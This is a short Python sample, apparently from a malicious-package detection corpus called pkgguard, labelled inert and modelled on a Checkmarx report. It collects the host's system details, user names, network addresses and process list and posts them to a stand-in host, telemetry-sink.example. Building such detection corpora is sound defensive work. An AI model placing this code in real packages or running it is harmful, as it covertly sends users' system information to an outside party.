# pkgguard corpus 605 (system-information), modelled on [checkmarx-2024]; inert, never run.
import json
import platform
import urllib.request

import psutil

report = {
    "uname": platform.uname()._asdict(),
    "users": [u.name for u in psutil.users()],
    "nics": {n: [a.address for a in addrs] for n, addrs in psutil.net_if_addrs().items()},
    "procs": [p.info["name"] for p in psutil.process_iter(["name"])],
}
urllib.request.urlopen(
    urllib.request.Request("https://telemetry-sink.example/r", data=json.dumps(report).encode()),
    timeout=10,
)
